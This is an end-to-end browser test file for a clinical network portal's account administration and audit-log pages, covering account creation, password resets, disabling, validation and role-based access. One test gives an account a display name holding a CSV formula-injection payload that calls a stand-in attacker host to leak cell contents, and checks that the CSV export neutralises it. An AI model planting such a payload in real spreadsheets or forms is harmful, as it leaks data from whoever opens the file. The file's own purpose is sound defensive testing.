// Accounts administration and the audit log, as a network admin does it in the browser:
// create a site account, reset its password, disable it, read the audit log and its CSV.
// Each flow makes its own accounts (demo accounts and passwords are never changed).
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { readCsv } from '@maternity-qi/network-data';

const NON_ADMIN_ROLES = ['faculty', 'advisory', 'site_lead', 'site_data_entry'];
const form = (fields) => ({
  method: 'POST',
  body: new URLSearchParams(fields),
  headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' },
});

/** Signs in on the portal's login page; resolves to the page after the sign-in attempt. */
async function signIn(page, baseUrl, email, password) {
  await page.goto(`${baseUrl}/portal/login`);
  await page.getByLabel('Email address').fill(email);
  await page.getByLabel('Password').fill(password);
  // Wait for the form's own POST to be answered (and its page loaded), not just for quiet.
  const answered = page.waitForResponse(
    (response) =>
      response.request().method() === 'POST' && new URL(response.url()).pathname === '/portal/login',
  );
  await page.getByRole('button', { name: 'Sign in' }).click();
  const response = await answered;
  const location = response.status() === 303 ? response.headers().location : null;
  if (location) await page.waitForURL((url) => url.pathname === new URL(location, baseUrl).pathname);
  else await page.waitForLoadState('load');
  return page;
}

async function createAccountInBrowser(page, baseUrl, account) {
  await page.goto(`${baseUrl}/portal/admin/accounts`);
  const create = page.getByRole('region', { name: 'Create an account' });
  await create.getByLabel('Email address').fill(account.email);
  await create.getByLabel('Name').fill(account.displayName);
  await create.getByLabel('Role').selectOption({ label: account.roleLabel });
  if (account.site) await create.getByLabel('Site', { exact: true }).selectOption(account.site);
  await create.getByLabel('Initial password').fill(account.password);
  await create.getByRole('button', { name: 'Create account' }).click();
}

export const flows = [
  {
    name: 'admin creates a site data entry account for S3, resets its password, disables it; the audit log and its CSV show it',
    async run({ baseUrl, browser, signedInPage, demoEmail, screenshot, outDir }) {
      const admin = await signedInPage('network_admin');
      // With JavaScript the site field shows only for the roles that belong to a site.
      await admin.goto(`${baseUrl}/portal/admin/accounts`);
      await admin.waitForLoadState('networkidle');
      const siteField = admin.getByLabel('Site', { exact: true });
      await admin.getByLabel('Role').selectOption({ label: 'Improvement faculty' });
      await siteField.waitFor({ state: 'hidden' });
      await admin.getByLabel('Role').selectOption({ label: 'Site lead' });
      await siteField.waitFor({ state: 'visible' });
      const email = `data.s3.${Date.now()}@trust-c.nhs.uk`;
      const displayName = '=HYPERLINK("https://evil.example/?leak="&A1,"Open") S3 data lead';
      await createAccountInBrowser(admin, baseUrl, {
        email,
        displayName,
        roleLabel: 'Site data entry',
        site: 'S3',
        password: 'first password for s3',
      });
      await admin.getByRole('status').getByText(`Created an account for ${displayName} (${email})`).waitFor();
      const row = admin.getByRole('row').filter({ hasText: email });
      assert.deepEqual(
        (await row.getByRole('cell').allInnerTexts()).slice(1, 5).map((t) => t.trim()),
        [email, 'Site data entry', 'S3', 'Active'],
      );
      assert.equal(
        await admin
          .locator('body')
          .getByText(/scrypt\$/)
          .count(),
        0,
        'no password hash on the page',
      );
      await screenshot(admin, 'admin-accounts.png');

      // The new person, in their own browser: signed in, and bound to site S3.
      const theirs = await browser.newContext({ viewport: { width: 1280, height: 900 } });
      try {
        const person = await signIn(await theirs.newPage(), baseUrl, email, 'first password for s3');
        await person.goto(`${baseUrl}/portal`);
        await person.getByText('Signed in as').waitFor();
        assert.match(await person.locator('.lede').textContent(), /\(Site data entry, site S3\)/);
        assert.equal((await person.request.get(`${baseUrl}/portal/admin/accounts`)).status(), 403);

        // Reset: the old password stops working, the new one works; their session ended.
        await admin.goto(`${baseUrl}/portal/admin/accounts`);
        const resetRow = admin.getByRole('row').filter({ hasText: email });
        await resetRow.getByText('Reset password').click();
        await resetRow.getByLabel(`New password for ${email}`).fill('second password for s3');
        await resetRow.getByRole('button', { name: 'Set password' }).click();
        await admin.getByRole('status').getByText(`New password set for ${email}.`).waitFor();
        await person.goto(`${baseUrl}/portal`);
        assert.match(new URL(person.url()).pathname, /^\/portal\/login/, 'reset ends their session');
        await signIn(person, baseUrl, email, 'first password for s3');
        await person.getByText('That email address and password do not match an active account.').waitFor();
        await signIn(person, baseUrl, email, 'second password for s3');
        assert.equal(new URL(person.url()).pathname, '/portal');

        // Disable: their session ends and sign-in is refused.
        await admin.getByRole('button', { name: `Disable ${email}` }).click();
        await admin.getByRole('status').getByText(`Disabled ${email}: they can no longer sign in.`).waitFor();
        assert.equal(
          (
            await admin.getByRole('row').filter({ hasText: email }).getByRole('cell').nth(4).textContent()
          ).trim(),
          'Disabled',
        );
        await person.goto(`${baseUrl}/portal`);
        assert.match(new URL(person.url()).pathname, /^\/portal\/login/, 'disabling ends their session');
        await signIn(person, baseUrl, email, 'second password for s3');
        await person.getByText('That email address and password do not match an active account.').waitFor();
      } finally {
        await theirs.close();
      }

      // The audit log lists the three changes, by the admin, newest first.
      await admin.goto(`${baseUrl}/portal/admin/audit`);
      await screenshot(admin, 'admin-audit.png');
      await admin.getByLabel('Action starts with').fill('account.');
      await admin.getByLabel('Account email contains').fill(demoEmail('network_admin'));
      await admin.getByRole('button', { name: 'Filter' }).click();
      await admin.waitForURL(/action=account\./);
      const mine = admin.getByRole('row').filter({ hasText: email });
      const actions = [];
      for (const cells of await mine.all()) {
        const texts = (await cells.getByRole('cell').allInnerTexts()).map((t) => t.trim());
        assert.equal(texts[1], demoEmail('network_admin'));
        actions.push(texts[2]);
      }
      assert.deepEqual(actions, ['account.disable', 'account.reset_password', 'account.create']);
      await screenshot(admin, 'admin-audit-filtered.png');

      // The CSV download: same filters, and the formula in the name is neutralised.
      const [download] = await Promise.all([
        admin.waitForEvent('download'),
        admin.getByRole('link', { name: /as CSV/ }).click(),
      ]);
      assert.match(download.suggestedFilename(), /^portal-audit-log-\d{4}-\d{2}-\d{2}\.csv$/);
      const file = `${outDir}/admin-audit.csv`;
      await download.saveAs(file);
      const { records, problems } = readCsv(await readFile(file, 'utf8'));
      assert.deepEqual(problems, []);
      const [header, ...lines] = records.map((record) => record.fields);
      const column = (name) => header.indexOf(name);
      const created = lines.find(
        (cells) => cells[column('target')] === email && cells[column('action')] === 'account.create',
      );
      assert.ok(created, 'the CSV has the account.create entry');
      assert.equal(created[column('detail_display_name')], `'${displayName}`);
      assert.equal(created[column('email')], demoEmail('network_admin'));
      for (const cells of lines) {
        assert.ok(cells[column('action')].startsWith('account.'), 'the CSV keeps the page filters');
        for (const cell of cells)
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `formula cell in the CSV: ${cell}`);
      }
    },
  },
  {
    name: 'the accounts page works without JavaScript and names the field at fault',
    async run({ baseUrl, browser, screenshot }) {
      const noScript = await browser.newContext({
        javaScriptEnabled: false,
        viewport: { width: 1280, height: 900 },
      });
      try {
        const page = await signIn(
          await noScript.newPage(),
          baseUrl,
          'admin@demo.nhs.uk',
          'maternity-qi-demo',
        );
        assert.equal(new URL(page.url()).pathname, '/portal');
        const email = `lead.s5.${Date.now()}@trust-e.nhs.uk`;
        // A site role without a site: refused, with the site field marked and the input kept.
        await createAccountInBrowser(page, baseUrl, {
          email,
          displayName: 'Site E lead',
          roleLabel: 'Site lead',
          site: '',
          password: 'a password for site e',
        });
        await page
          .getByRole('alert')
          .getByRole('link', { name: 'Site roles must name their site.' })
          .waitFor();
        assert.equal(await page.locator('#new-site').getAttribute('aria-invalid'), 'true');
        assert.equal(await page.locator('#new-email').inputValue(), email);
        assert.equal(await page.locator('#new-password').inputValue(), '', 'a password is never sent back');
        // A network role with a site: refused too.
        await createAccountInBrowser(page, baseUrl, {
          email,
          displayName: 'Site E lead',
          roleLabel: 'Improvement faculty',
          site: 'S5',
          password: 'a password for site e',
        });
        await page
          .getByRole('alert')
          .getByText('Only site leads and site data entry accounts belong to a site.')
          .waitFor();
        await createAccountInBrowser(page, baseUrl, {
          email: 'not-an-email',
          displayName: 'Site E lead',
          roleLabel: 'Site lead',
          site: 'S5',
          password: 'a password for site e',
        });
        await page.locator('#new-email-error').getByText('“not-an-email” is not an email address.').waitFor();
        await createAccountInBrowser(page, baseUrl, {
          email,
          displayName: 'Site E lead',
          roleLabel: 'Site lead',
          site: 'S5',
          password: 'short',
        });
        await page.locator('#new-password-error').getByText('Use at least 12 characters.').waitFor();
        await screenshot(page, 'admin-accounts-error.png');
        // Corrected: created.
        await createAccountInBrowser(page, baseUrl, {
          email,
          displayName: 'Site E lead',
          roleLabel: 'Site lead',
          site: 'S5',
          password: 'a password for site e',
        });
        await page.getByRole('status').getByText(`Created an account for Site E lead (${email})`).waitFor();
        assert.equal(await page.getByRole('row').filter({ hasText: email }).count(), 1);
        // Duplicates are refused on the email field.
        await createAccountInBrowser(page, baseUrl, {
          email: email.toUpperCase(),
          displayName: 'Someone else',
          roleLabel: 'Site lead',
          site: 'S5',
          password: 'a password for site e',
        });
        await page.locator('#new-email-error').getByText(`An account for ${email} already exists.`).waitFor();
      } finally {
        await noScript.close();
      }
    },
  },
  {
    name: 'an admin cannot disable their own account',
    async run({ http, demoEmail, signedInPage, baseUrl }) {
      const page = await signedInPage('network_admin');
      await page.goto(`${baseUrl}/portal/admin/accounts`);
      const own = page.getByRole('row').filter({ hasText: demoEmail('network_admin') });
      assert.equal(
        await own.getByRole('button', { name: /^Disable/ }).count(),
        0,
        'no disable button on your own row',
      );
      const client = http();
      await client.signIn(demoEmail('network_admin'));
      const response = await client.request(
        '/portal/admin/accounts?/disable',
        form({ email: demoEmail('network_admin').toUpperCase() }),
      );
      assert.equal(response.status, 400);
      assert.match(await response.text(), /You cannot disable your own account/);
      assert.equal(
        (await client.request('/portal/admin/accounts')).status,
        200,
        'still signed in and enabled',
      );
    },
  },
  {
    name: 'every other role gets 403 from the admin pages, the CSV and the actions; anonymous visitors are sent to sign in',
    async run({ http, demoEmail }) {
      const probe = `matrix.${Date.now()}@trust.nhs.uk`;
      for (const role of NON_ADMIN_ROLES) {
        const client = http();
        await client.signIn(demoEmail(role));
        for (const path of ['/portal/admin/accounts', '/portal/admin/audit', '/portal/admin/audit.csv'])
          assert.equal(
            (await client.request(path, { headers: { accept: 'text/html' } })).status,
            403,
            `${role} ${path}`,
          );
        const valid = {
          email: probe,
          displayName: 'Probe',
          role: 'network_admin',
          siteId: '',
          password: 'a long enough password',
        };
        for (const [action, body] of [
          ['create', valid],
          ['resetPassword', { email: demoEmail('faculty'), password: 'a long enough password' }],
          ['disable', { email: demoEmail('faculty') }],
          ['enable', { email: demoEmail('faculty') }],
        ]) {
          const response = await client.request(`/portal/admin/accounts?/${action}`, form(body));
          assert.equal(response.status, 403, `${role} ?/${action}`);
        }
      }
      // Nothing happened: the faculty account still signs in with its demo password, the probe does not exist.
      await http().signIn(demoEmail('faculty'));
      const admin = http();
      await admin.signIn(demoEmail('network_admin'));
      assert.doesNotMatch(
        await (await admin.request('/portal/admin/accounts')).text(),
        new RegExp(probe.replaceAll('.', '\\.')),
      );

      const anonymous = http();
      const page = await anonymous.request('/portal/admin/accounts', { headers: { accept: 'text/html' } });
      assert.equal(page.status, 303);
      assert.match(page.headers.get('location'), /^\/portal\/login\?next=%2Fportal%2Fadmin%2Faccounts/);
      assert.equal((await anonymous.request('/portal/admin/audit.csv')).status, 401);
      assert.equal(
        (await anonymous.request('/portal/admin/accounts?/create', form({ email: probe }))).status,
        401,
      );
    },
  },
];
